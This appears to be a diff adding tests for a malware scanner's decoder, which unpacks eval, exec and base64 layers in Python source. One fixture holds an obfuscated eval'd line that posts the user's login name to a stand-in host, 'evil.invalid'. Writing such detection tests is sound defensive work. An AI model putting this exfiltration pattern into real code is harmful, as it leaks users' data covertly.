@@ -1,0 +1,49 @@
+"""Texts that a program runs or evaluates: read once, where they stand, and folded as layers of their own."""
+
+import gc
+
+import pytest
+
+from scanner.decode import PeelBudget, peel
+from scanner.decode.fold import fold
+from scanner.member import Layer, Member
+
+URL = "https://evil.invalid/x"
+
+
+def layers_of(source: str) -> dict[tuple[str, ...], bytes]:
+    found = peel(Member(name="pkg/mod.py", data=source.encode()), PeelBudget())
+    return {item.path: item.data for item in found if isinstance(item, Layer)}
+
+
+def test_a_text_that_is_evaluated_is_folded_with_the_names_around_it() -> None:
+    call = "__import__('requests').post(scheme + 'evil.invalid/x', data={'name': __import__('getpass').getuser()})"
+    found = layers_of(
+        f"import base64\nscheme = 'https://'\neval({call!r})\nexec(base64.b64decode('cHJpbnQoMSkgIyBhbmQgb24='))\n"
+    )
+    assert found["eval",] == call.encode()
+    assert URL in found["eval", "folded"].decode()
+
+
+def test_a_text_that_gives_a_text_leaves_no_layer_of_that_text_alone() -> None:
+    found = layers_of(
+        f"text = eval({'+'.join(repr(char) for char in URL * 3)!r})\nexec('import requests; requests.get(text)')\n"
+    )
+    assert ("eval", "folded") not in found
+
+
+def test_what_is_evaluated_inside_an_evaluated_text_has_both_steps_in_its_path() -> None:
+    inner = "print('a text that is long enough to be a layer of its own, since somebody evaluates it')"
+    found = layers_of(
+        f"import base64\nexec(base64.b64decode('cHJpbnQoMSkgIyBhbmQgb24='))\neval({f'eval({inner!r})'!r})\n"
+    )
+    assert found["eval", "eval"] == inner.encode()
+
+
+@pytest.mark.parametrize("rounds", [3, 90_000], ids=["short", "long"])
+def test_the_collector_of_cycles_runs_again_after_any_program(rounds: int) -> None:
+    assert gc.isenabled()
+    fold(
+        f"table = [0] * 9\nat = 0\nwhile at < {rounds}:\n    at += 1\n    table[at % 9] ^= at\n".encode(), PeelBudget()
+    )
+    assert gc.isenabled()
